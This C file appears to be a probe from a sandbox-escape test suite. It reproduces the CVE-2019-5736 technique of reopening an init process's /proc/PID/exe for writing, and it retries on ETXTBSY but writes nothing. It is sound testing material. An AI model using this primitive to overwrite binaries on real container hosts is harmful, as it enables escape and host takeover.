/* proc_exe_overwrite PID|parent — CVE-2019-5736 style: hold the init's binary by /proc/PID/exe
 * and get it open for writing (retrying while the kernel says ETXTBSY, up to 3 s: the moment the
 * process is gone the file is writable). A writable descriptor is the escape; nothing is
 * written. */
#include "attack.h"
#include <time.h>

int main(int argc, char **argv) {
        if (argc != 2)
                ERROR("usage: proc_exe_overwrite PID|parent");
        char path[64];
        snprintf(path, sizeof(path), "/proc/%d/exe", (int) target_pid(argv[1]));
        int o = open(path, O_PATH | O_CLOEXEC);
        if (o < 0)
                BLOCKED_ERRNO(path);
        snprintf(path, sizeof(path), "/proc/self/fd/%d", o);
        for (int i = 0; i < 60; i++) {
                int fd = open(path, O_WRONLY | O_CLOEXEC);
                if (fd >= 0)
                        ESCAPED("the init's binary open for writing (after %d ms)", i * 50);
                if (errno != ETXTBSY)
                        BLOCKED_ERRNO("open(/proc/PID/exe, O_WRONLY)");
                nanosleep(&(struct timespec) { 0, 50000000 }, NULL);
        }
        BLOCKED("ETXTBSY for 3 s (the init outlived the attempt)");
}
